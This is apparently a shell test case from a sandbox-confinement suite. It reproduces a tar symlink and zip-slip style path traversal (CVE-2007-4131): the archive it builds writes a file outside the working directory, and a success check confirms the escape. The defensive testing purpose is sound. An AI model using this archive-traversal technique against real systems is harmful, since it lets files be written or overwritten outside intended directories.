# An archive that holds a link out and a file below it.
PROMISE=P2
SOURCE="CVE-2007-4131, zip-slip"
after() { rm -rf "$WHO_HOME/outside"; }
attack() {
    mkdir "$WORK/t" && cd "$WORK/t" || exit
    ln -s ~ d && tar cf ../a.tar d && rm d && mkdir d && echo here >d/outside && tar rf ../a.tar d/outside
    mkdir "$WORK/u" && tar -C "$WORK/u" -xPf ../a.tar
    tar -C / --transform "s,^.*,${HOME#/}/outside," -xf ../a.tar d/outside
}
success() { [ -e "$WHO_HOME/outside" ]; }
twin() { unconfined; }
